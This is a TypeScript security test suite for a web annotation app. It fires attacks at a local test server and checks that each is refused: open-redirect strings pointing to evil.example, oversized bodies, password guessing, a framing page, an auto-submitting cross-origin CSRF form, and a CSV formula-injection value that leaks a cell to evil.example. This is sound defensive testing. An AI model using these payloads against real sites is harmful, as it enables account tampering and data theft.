/**
 * The outsider attacks of issue 12 against the real production server (its own database), each
 * shown refused: open redirects after login, oversized bodies, password guessing, session reuse
 * after logout and password changes, weak passwords, missing security headers and framing,
 * cross-origin form posts (CSRF), malformed bodies, unknown ids in admin actions and formula
 * injection into labels.csv. State is checked in the database.
 */
import Database from "better-sqlite3";
import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { createServer, request as httpRequest, type IncomingMessage, type Server } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fixtureAbBundle } from "../fixtures/bundle-fixture.ts";
import { startAppServer, type AppServer } from "../../harness/app-server.ts";
import { launchChromium, runBrowserTests, type watchingCsp } from "../../harness/browser.ts";
import { runCli } from "../helpers/cli.ts";
import { DEMO, loginCookie, loginInBrowser } from "../../harness/login.ts";
import { tempDir } from "../../harness/temp-db.ts";

const LIMITS = {
  MAX_BODY_BYTES: String(1024 * 1024),
  LOGIN_MAX_FAILURES_PER_ACCOUNT: "4",
  LOGIN_MAX_FAILURES_PER_ADDRESS: "40",
};
const CAROL = { username: "carol", password: "violet kettle harbour" };

let server: AppServer;
let evil: { origin: string; close: () => Promise<void> };

function query<T>(sql: string, ...params: unknown[]): T[] {
  const db = new Database(server.dbPath, { readonly: true });
  try {
    return db.prepare(sql).all(...params) as T[];
  } finally {
    db.close();
  }
}

const accountId = (username: string) =>
  query<{ id: number }>(`SELECT id FROM annotators WHERE username = ?`, username)[0].id;
const sessionsOf = (username: string) =>
  query<{ id_hash: string }>(
    `SELECT s.id_hash FROM sessions s JOIN annotators a ON a.id = s.annotator_id WHERE a.username = ?`,
    username,
  ).map((r) => r.id_hash);

/** The random session id inside a signed `socrates_session=…` cookie. */
function sessionIdOf(cookie: string): string {
  const value = decodeURIComponent(cookie.split("=")[1]);
  return JSON.parse(Buffer.from(value.slice(0, value.lastIndexOf(".")), "base64").toString("utf8")) as string;
}

const post = (path: string, body: BodyInit, headers: Record<string, string> = {}) =>
  fetch(server.url + path, { method: "POST", body, headers, redirect: "manual" });
const adminPost = async (fields: Record<string, string>, headers: Record<string, string> = {}) =>
  post("/admin/annotators", new URLSearchParams(fields), {
    cookie: await loginCookie(server.url, DEMO.admin),
    ...headers,
  });

/** Whether `cookie` still opens a page that needs a login (a revoked session is sent to /login). */
async function sessionWorks(cookie: string): Promise<boolean> {
  const res = await fetch(server.url + "/annotate", { headers: { cookie }, redirect: "manual" });
  return res.status === 200;
}

/** A site on another port of 127.0.0.1 (same site, other origin), serving fixed pages. */
async function startEvilSite(
  pages: () => Record<string, string>,
): Promise<{ origin: string; close: () => Promise<void> }> {
  const site: Server = createServer((req, res) => {
    const page = pages()[new URL(req.url ?? "/", "http://evil").pathname];
    res.writeHead(page ? 200 : 404, { "Content-Type": "text/html; charset=utf-8" }).end(page ?? "not found");
  });
  await new Promise<void>((ok) => site.listen(0, "127.0.0.1", ok));
  const { port } = site.address() as { port: number };
  return { origin: `http://127.0.0.1:${port}`, close: () => new Promise((ok) => site.close(() => ok())) };
}

/**
 * A raw POST to /login that never finishes its body: `declared` as Content-Length without sending
 * any of it, or (chunked, no length) `chunkedBytes` of data in 64 KB chunks with no end. Resolves
 * with the server's answer and the bytes sent.
 */
function rawLoginPost(
  mode: { declared: number } | { chunkedBytes: number },
): Promise<{ status: number; body: string; sent: number; headers: IncomingMessage["headers"] }> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { "Content-Type": "application/x-www-form-urlencoded" };
    if ("declared" in mode) headers["Content-Length"] = String(mode.declared);
    else headers["Transfer-Encoding"] = "chunked";
    const req = httpRequest(`${server.url}/login`, { method: "POST", headers });
    let sent = 0;
    let answered = false;
    req.on("error", (err) => answered || reject(err)); // the server closes the socket after answering
    req.on("response", (res) => {
      answered = true;
      let body = "";
      res.setEncoding("utf8");
      res.on("data", (d) => (body += d));
      res.on("end", () => {
        req.destroy();
        resolve({ status: res.statusCode ?? 0, body, sent, headers: res.headers });
      });
    });
    req.flushHeaders();
    if (!("chunkedBytes" in mode)) return;
    const chunk = Buffer.alloc(64 * 1024, "a");
    const pump = () => {
      while (!answered && sent < mode.chunkedBytes) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once("drain", pump);
      }
    };
    pump();
  });
}

beforeAll(async () => {
  evil = await startEvilSite(() => evilPages);
  server = await startAppServer({ env: { ...LIMITS, MTURK_SUBMIT_ORIGINS: "http://127.0.0.1:9" } });
});
afterAll(async () => {
  await server?.stop();
  await evil?.close();
});

let evilPages: Record<string, string> = {};

describe("login redirect (next) stays on this site", () => {
  const attacks = [
    "/%5Cevil.example",
    "/%5C/evil.example",
    "/%09/evil.example",
    "/%0A/evil.example",
    "/%0D%0A/evil.example",
    "//evil.example",
    "/.//evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
  ];

  it.each(attacks)("GET /login?next=%s while logged in goes home, not to evil.example", async (next) => {
    const cookie = await loginCookie(server.url, DEMO.ada);
    const res = await fetch(`${server.url}/login?next=${next}`, { headers: { cookie }, redirect: "manual" });
    expect(res.status).toBe(302);
    expect(new URL(res.headers.get("location")!, server.url).href).toBe(`${server.url}/annotate`);
  });

  it("POST /login with a hostile next lands home; a path of this site is kept with its query", async () => {
    for (const next of [
      "/\\evil.example",
      "/\\/evil.example",
      "/\t/evil.example",
      "//evil.example",
      "https://evil.example",
    ]) {
      const res = await post("/login", new URLSearchParams({ ...DEMO.ada, next }));
      expect(new URL(res.headers.get("location")!, server.url).href).toBe(`${server.url}/annotate`);
    }
    const res = await post("/login", new URLSearchParams({ ...DEMO.admin, next: "/admin/annotators?x=1" }));
    expect(res.headers.get("location")).toBe("/admin/annotators?x=1");
  });
});

describe("request body limit", () => {
  it("answers a declared 100 MB body 413 at once, before any of it is sent", async () => {
    const res = await rawLoginPost({ declared: 100 * 1024 * 1024 });
    expect(res.status).toBe(413);
    expect(res.sent).toBe(0);
    expect(res.body).toMatch(/Request body too large: this server accepts at most 1 MB \(1048576 bytes\)/);
    expect(res.headers["x-content-type-options"]).toBe("nosniff");
  });

  it("cuts a chunked body without Content-Length off at the limit with 413, without waiting for its end", async () => {
    const res = await rawLoginPost({ chunkedBytes: 1024 * 1024 + 64 * 1024 });
    expect(res.status).toBe(413);
    expect(res.body).toMatch(/Request body too large/);
    // The server is still fine afterwards.
    expect((await post("/login", new URLSearchParams(DEMO.ada))).status).toBe(302);
  });
});

describe("malformed bodies are 400, not 500", () => {
  it.each([
    ["JSON", "application/json", '{"username":"admin"'],
    [
      "broken multipart",
      "multipart/form-data; boundary=xyz",
      '--xyz\r\nContent-Disposition: form-data; name="username"\r\n\r\nadmin',
    ],
    ["plain text", "text/plain", "username=admin&password=x"],
  ])("%s to /login", async (_what, type, body) => {
    const res = await post("/login", body, { "Content-Type": type });
    expect(res.status).toBe(400);
    expect(await res.text()).toContain("The request body is not a form this page accepts");
  });

  it("JSON to an admin action", async () => {
    const res = await post("/admin/annotators", "{}", {
      "Content-Type": "application/json",
      cookie: await loginCookie(server.url, DEMO.admin),
    });
    expect(res.status).toBe(400);
  });
});

describe("security headers", () => {
  const nonceOf = (csp: string) => /'nonce-([^']+)'/.exec(csp)?.[1];

  it.each(["/", "/login", "/no-such-page", "/admin/annotators", "/scenarios"])(
    "%s carries CSP with a fresh nonce on every script, no framing, nosniff, Referrer-Policy",
    async (path) => {
      const [a, b] = [
        await fetch(server.url + path, { redirect: "manual" }),
        await fetch(server.url + path, { redirect: "manual" }),
      ];
      const csp = a.headers.get("content-security-policy")!;
      for (const directive of [
        "default-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "frame-ancestors 'none'",
      ])
        expect(csp).toContain(directive);
      expect(nonceOf(csp)).toMatch(/^[A-Za-z0-9+/=]{20,}$/);
      expect(nonceOf(b.headers.get("content-security-policy")!)).not.toBe(nonceOf(csp));
      expect(a.headers.get("x-frame-options")).toBe("DENY");
      expect(a.headers.get("x-content-type-options")).toBe("nosniff");
      expect(a.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
      const html = await a.text();
      expect(html.match(/<script(?![^>]*\bnonce=)[^>]*>/g) ?? []).toEqual([]);
      for (const [, nonce] of html.matchAll(/<script[^>]*\bnonce="([^"]+)"/g)) expect(nonce).toBe(nonceOf(csp));
    },
  );

  it("the MTurk task page, also as an error page, may be framed by MTurk's origins only, and posts its hand-off only to them", async () => {
    for (const path of [
      "/mturk/task?study=1&item=1&assignmentId=ASSIGNMENT_ID_NOT_AVAILABLE",
      "/mturk/task?study=oops",
    ]) {
      const res = await fetch(server.url + path);
      const csp = res.headers.get("content-security-policy")!;
      expect(csp).toContain("frame-ancestors https://*.mturk.com http://127.0.0.1:9");
      expect(csp).toContain(
        "form-action 'self' https://www.mturk.com https://workersandbox.mturk.com http://127.0.0.1:9",
      );
      expect(res.headers.get("x-frame-options")).toBeNull();
    }
    expect((await fetch(server.url + "/mturk/task?study=oops")).status).toBe(400);
  });
});

describe("CSRF: state-changing requests from other origins", () => {
  it("refuses a cross-origin logout and admin action (403), leaving the session and the account as they were", async () => {
    const cookie = await loginCookie(server.url, DEMO.ada);
    const before = sessionsOf("ada").length;
    const logout = await post("/logout", "", { cookie, Origin: "https://evil.example" });
    expect(logout.status).toBe(403);
    expect(await logout.text()).toMatch(/Cross-origin request refused/);
    expect(sessionsOf("ada")).toHaveLength(before);
    const deactivate = await adminPost(
      { intent: "deactivate", id: String(accountId("ben")) },
      { "Sec-Fetch-Site": "cross-site" },
    );
    expect(deactivate.status).toBe(403);
    expect(query<{ active: number }>(`SELECT active FROM annotators WHERE username = 'ben'`)[0].active).toBe(1);
  });

  it("lets same-origin browsers and non-browser clients through", async () => {
    const cookie = await loginCookie(server.url, DEMO.ada);
    expect((await post("/logout", "", { cookie, Origin: server.url, "Sec-Fetch-Site": "same-origin" })).status).toBe(
      302,
    );
    expect(await sessionWorks(cookie)).toBe(false);
  });
});

describe("admin actions on unknown ids answer 404", () => {
  it.each<Record<string, string>>([
    { intent: "password", id: "999999", password: "violet kettle harbour" },
    { intent: "deactivate", id: "999999" },
    { intent: "activate", id: "999999" },
    { intent: "deactivate", id: "not-a-number" },
  ])("%j", async (fields) => {
    const res = await adminPost(fields);
    expect(res.status).toBe(404);
    expect(await res.text()).toMatch(/Account .* does not exist/);
  });
});

describe("logins", () => {
  it("refuses weak passwords when an account is created or reset, naming the field", async () => {
    for (const password of ["aaaaaaaaaa", "Password123", "abcabcabcabc", "1234567890", "carol12345"]) {
      const res = await adminPost({
        intent: "create",
        username: "carol",
        displayName: "Carol",
        role: "expert",
        password,
      });
      expect(res.status).toBe(400);
      expect(await res.text()).toMatch(/repeated|run of letters|most common|mostly the username/);
    }
    expect(query(`SELECT id FROM annotators WHERE username = 'carol'`)).toEqual([]);
    expect(
      (
        await adminPost({
          intent: "create",
          username: "carol",
          displayName: "Carol",
          role: "expert",
          password: CAROL.password,
        })
      ).status,
    ).toBe(200);
    const hash = query<{ h: string }>(`SELECT password_hash AS h FROM annotators WHERE username = 'carol'`)[0].h;
    expect(
      (await adminPost({ intent: "password", id: String(accountId("carol")), password: "aaaaaaaaaa" })).status,
    ).toBe(400);
    expect(query<{ h: string }>(`SELECT password_hash AS h FROM annotators WHERE username = 'carol'`)[0].h).toBe(hash);
  });

  it("keeps sessions server-side: the cookie holds a random id whose sha256 is the row; logout deletes the row and the cookie is refused", async () => {
    const cookie = await loginCookie(server.url, CAROL);
    const id = sessionIdOf(cookie);
    expect(id).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(sessionsOf("carol")).toEqual([createHash("sha256").update(id).digest("hex")]);
    expect(await sessionWorks(cookie)).toBe(true);
    expect((await post("/logout", "", { cookie })).status).toBe(302);
    expect(sessionsOf("carol")).toEqual([]);
    expect(await sessionWorks(cookie)).toBe(false);
  });

  it("a password reset by the admin and a deactivation end every session of that account", async () => {
    const [first, second] = [await loginCookie(server.url, CAROL), await loginCookie(server.url, CAROL)];
    expect(sessionsOf("carol")).toHaveLength(2);
    const newPassword = "amber lantern meadow";
    expect(
      (await adminPost({ intent: "password", id: String(accountId("carol")), password: newPassword })).status,
    ).toBe(200);
    expect(sessionsOf("carol")).toEqual([]);
    expect(await sessionWorks(first)).toBe(false);
    expect(await sessionWorks(second)).toBe(false);

    const third = await loginCookie(server.url, { username: "carol", password: newPassword });
    expect((await adminPost({ intent: "deactivate", id: String(accountId("carol")) })).status).toBe(200);
    expect(sessionsOf("carol")).toEqual([]);
    expect(await sessionWorks(third)).toBe(false);
  });

  it("limits failed logins per account: after 4 wrong guesses even the right password is refused 429 with Retry-After, and no session is made", async () => {
    for (let i = 0; i < 4; i++)
      expect((await post("/login", new URLSearchParams({ username: "ben", password: `guess ${i}` }))).status).toBe(401);
    const right = await post("/login", new URLSearchParams(DEMO.ben));
    expect(right.status).toBe(429);
    expect(Number(right.headers.get("retry-after"))).toBeGreaterThan(0);
    expect(await right.text()).toMatch(/Too many failed logins for this account or from this network/);
    expect(right.headers.get("set-cookie")).toBeNull();
    expect(sessionsOf("ben")).toEqual([]);
    // Another account from the same address is not locked by ben's count.
    expect((await post("/login", new URLSearchParams(DEMO.ada))).status).toBe(302);
  });
});

describe("CSV formula injection", () => {
  it("a simulator backbone =HYPERLINK(…) from an imported bundle reaches labels.csv neutralised", async () => {
    const evilBackbone = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
    const bundle = fixtureAbBundle({ pairId: "csv:ab", runIds: ["csv:a", "csv:b"], simulator: evilBackbone });
    const [pair] = bundle.ab_pairs;
    const tmp = tempDir("socrates-csv-");
    try {
      const file = join(tmp.dir, "evil.json");
      writeFileSync(file, JSON.stringify(bundle));
      const imported = runCli(["import", file], { SOCRATES_DB: server.dbPath });
      expect(imported.status, imported.stderr).toBe(0);
    } finally {
      tmp.cleanup();
    }
    const admin = await loginCookie(server.url, DEMO.admin);
    const form = new FormData();
    for (const [k, v] of Object.entries({
      type: "ab-reactiveness",
      name: "CSV study",
      pool: "expert",
      guidelines: "Compare the two conversations.",
    }))
      form.set(k, v);
    form.set(
      "bundle",
      new Blob([JSON.stringify({ format: "socrates-bundle", version: 1, ab_pairs: [pair] })], {
        type: "application/json",
      }),
      "pairs.json",
    );
    const created = await post("/admin/studies", form, { cookie: admin });
    expect(created.status).toBe(302);
    const studyId = Number(created.headers.get("location")!.split("/").pop());
    const [{ itemId }] = query<{ itemId: number }>(`SELECT id AS itemId FROM study_items WHERE study_id = ?`, studyId);

    const ada = await loginCookie(server.url, DEMO.ada);
    // The next item is leased by a POST (issue 29: the GET writes nothing).
    expect(
      (await post(`/annotate/${studyId}/next`, new URLSearchParams(), { cookie: ada })).headers.get("location"),
    ).toBe(`/annotate/${studyId}/items/${itemId}`);
    // The item's page first: a submit for an item never shown to its annotator is refused (issue 28).
    expect(
      (await fetch(`${server.url}/annotate/${studyId}/items/${itemId}`, { headers: { cookie: ada } })).status,
    ).toBe(200);
    const label = new URLSearchParams({
      intent: "submit",
      payload: JSON.stringify({ kind: "ab-reactiveness", choice: "A" }),
      clientToken: "csv-test-1",
      then: "stay",
    });
    expect((await post(`/annotate/${studyId}/items/${itemId}`, label, { cookie: ada })).status).toBe(200);

    const csv = await (
      await fetch(`${server.url}/admin/studies/${studyId}/labels.csv`, { headers: { cookie: admin } })
    ).text();
    const row = csv.trim().split("\r\n")[1];
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")"`);
    expect(row).not.toMatch(/,"?=HYPERLINK/);
  });
});

describe.runIf(runBrowserTests)("in Chromium", { timeout: 120_000 }, () => {
  let browser: ReturnType<typeof watchingCsp>;
  beforeAll(async () => {
    browser = (await launchChromium()) as ReturnType<typeof watchingCsp>;
  });
  afterAll(async () => {
    await browser?.close();
  });

  it("the app's own pages pass the CSP", async () => {
    const page = await browser.newPage();
    await loginInBrowser(page, server.url, DEMO.admin);
    for (const path of [
      "/admin/studies",
      "/admin/studies/1",
      "/admin/annotators",
      "/scenarios",
      "/runs",
      "/no-such-page",
    ]) {
      await page.goto(server.url + path);
      await page.waitForLoadState("networkidle");
    }
    await page.getByRole("link", { name: "Annotators" }).click();
    await page.getByRole("heading", { name: "Annotators" }).waitFor();
    await page.close();
    expect(browser.cspViolations).toEqual([]);
  });

  it("another site cannot frame an admin page", async () => {
    evilPages = {
      "/frame": `<!doctype html><title>evil</title><iframe id="f" src="${server.url}/admin/annotators"></iframe>`,
    };
    const page = await browser.newPage();
    const refused = page.waitForEvent("console", (m) => /frame-ancestors/.test(m.text()));
    await page.goto(evil.origin + "/frame");
    await refused;
    expect(await page.frameLocator("#f").getByRole("heading", { name: "Annotators" }).count()).toBe(0);
    await page.close();
    // The refusal is the point here: take it off the list the browser helper fails on.
    expect(browser.cspViolations.length).toBeGreaterThan(0);
    expect(browser.cspViolations.every((v) => /frame-ancestors/.test(v))).toBe(true);
    browser.cspViolations.length = 0;
  });

  it("a same-site page on another port cannot post the admin's form (SameSite=Lax alone would let it)", async () => {
    const benId = accountId("ben");
    evilPages = {
      "/csrf": `<!doctype html><title>win a prize</title><form id="f" method="post" action="${server.url}/admin/annotators"><input name="intent" value="deactivate"><input name="id" value="${benId}"></form><script>document.getElementById("f").submit()</script>`,
    };
    const context = await browser.newContext();
    const page = await context.newPage();
    await loginInBrowser(page, server.url, DEMO.admin);
    await page.goto(evil.origin + "/csrf");
    await page.waitForURL(`${server.url}/admin/annotators`);
    await page.getByText("Cross-origin request refused").waitFor();
    expect(query<{ active: number }>(`SELECT active FROM annotators WHERE id = ?`, benId)[0].active).toBe(1);
    await context.close();
  });
});

describe("per-address login limit", () => {
  // Last: once the address is limited, no login from this test process works on this server.
  it("refuses a network that fails across many usernames with 429", async () => {
    let status = 0;
    for (let i = 0; i < 45 && status !== 429; i++)
      status = (await post("/login", new URLSearchParams({ username: `nobody${i}`, password: "guess guess" }))).status;
    expect(status).toBe(429);
    expect((await post("/login", new URLSearchParams(DEMO.admin))).status).toBe(429);
  });
});
